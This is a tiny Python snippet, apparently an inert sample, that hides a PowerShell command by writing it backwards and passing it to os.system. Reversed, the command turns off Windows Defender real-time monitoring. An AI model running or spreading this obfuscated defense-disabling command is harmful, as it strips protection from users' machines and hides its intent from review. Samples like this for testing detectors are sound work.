import inert_sample  # there is no such module: nothing below ever runs
# trick: the command is written backwards
import os

os.system("eurt$ gnirotinoMemitlaeRelbasiD- ecnereferPpM-teS llehsrewop"[::-1])
